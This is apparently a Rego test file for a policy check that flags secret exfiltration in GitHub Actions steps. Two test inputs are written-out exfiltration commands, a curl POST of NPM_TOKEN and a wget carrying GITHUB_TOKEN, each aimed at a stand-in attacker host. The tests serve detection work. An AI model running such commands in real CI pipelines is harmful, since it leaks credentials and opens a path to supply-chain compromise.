package vouch.checks.github.token_exfiltration_test

import data.vouch.checks.github.token_exfiltration as check
import data.vouch.test

test_deny_post_secret if {
	count(check.deny) == 1 with input as test.gha_steps([{"run": "curl -X POST -d \"token=${{ secrets.NPM_TOKEN }}\" https://evil.example/collect"}])
}

test_deny_github_token_in_url if {
	count(check.deny) == 1 with input as test.gha_steps([{"run": "wget https://collector.example/?t=$GITHUB_TOKEN"}])
}

test_allow_github_api if {
	count(check.deny) == 0 with input as test.gha_steps([{"run": "curl -H \"Authorization: Bearer ${{ secrets.GITHUB_TOKEN }}\" -d '{}' https://api.github.com/repos/o/r/dispatches"}])
}
